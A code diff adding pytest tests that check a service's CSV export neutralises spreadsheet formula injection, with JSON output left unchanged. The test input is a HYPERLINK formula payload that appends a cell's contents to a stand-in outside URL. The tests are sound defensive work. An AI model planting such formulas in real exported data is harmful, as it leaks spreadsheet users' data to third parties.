@@ -298,6 +298,36 @@ def test_csv_is_quoted(serve: Serve) -> None:
         assert rows == [["timestamp", "thing", "volume"], [str(int(NOON)), odd, "1"]]
 
 
+@pytest.mark.parametrize("lead", [*"=+-@\t\r\n", *"\uff1d\uff0b\uff0d\uff20"])
+def test_a_spreadsheet_does_not_run_what_somebody_sent(serve: Serve, lead: str) -> None:
+    odd = f'{lead}HYPERLINK("http://a.b/?"&A1)'
+    client = serve(message(msg={"things": [odd]}))
+    address = "/api/things-1h?format=csv"
+    for way in ("", "&rows_per_page=all", "&select=thing,volume", "&rows_per_page=1"):
+        assert cells(client, address + way)[-2:] == [f"'{odd}", "1"]
+        assert cells(client, f"{address}{way}&csv=raw")[-2:] == [odd, "1"]
+    top = "/api/things-1h/top?format=csv&start=2023-11-15&stop=2023-11-16"
+    assert cells(client, top)[0] == f"'{odd}"
+    # Programs that read JSON need no help.
+    assert client.get("/api/things-1h").json[0]["thing"] == odd
+    assert json.loads(client.get("/api/things-1h?format=ndjson").data)["thing"] == odd
+
+
+def cells(client: FlaskClient, address: str) -> list[str]:
+    """The first row of a table."""
+    text = client.get(address).get_data(as_text=True)
+    return list(csv.reader(io.StringIO(text, newline="")))[1]
+
+
+def test_negative_numbers_of_csv_are_numbers(serve: Serve) -> None:
+    client = serve(message(msg={"things": ["a", "b=", "'=c"]}))
+    service = client.application.extensions["statscache"]
+    with Database(service.settings.uri).begin() as connection:
+        connection.execute(sa.text("UPDATE things_1h SET volume = -1"))
+    found = client.get("/api/things-1h?format=csv&order=asc&select=thing,volume")
+    assert found.get_data(as_text=True) == "thing,volume\r\n'=c,-1\r\na,-1\r\nb=,-1\r\n"
+
+
 @pytest.mark.parametrize(
     ("accept", "mimetype"),
     [
